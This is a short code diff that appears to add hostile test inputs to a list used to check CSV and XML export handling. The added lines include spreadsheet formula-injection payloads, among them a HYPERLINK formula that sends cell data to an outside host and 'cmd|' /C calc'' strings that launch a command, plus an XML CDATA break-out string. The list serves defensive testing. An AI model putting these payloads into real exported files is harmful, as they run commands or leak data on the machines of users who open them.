@@ -35,4 +35,13 @@ HOSTILE = [
     "x" * 3000,
     "~~struken~~ ^^under^^ ==markerad== ^upp^",
     "Normal text: (IOP) - Studiefremjandet, 2018-2024.",
+    # What a spreadsheet program would run as a formula, opened from the CSV files.
+    "=HYPERLINK(\"http://example.org/?x=\"&A1;\"klicka\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+46 8 508 000 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "＝1+1",
+    # Markup for the XML files (feed, catalogue).
+    "]]><x>&ent;</x><![CDATA[",
 ]
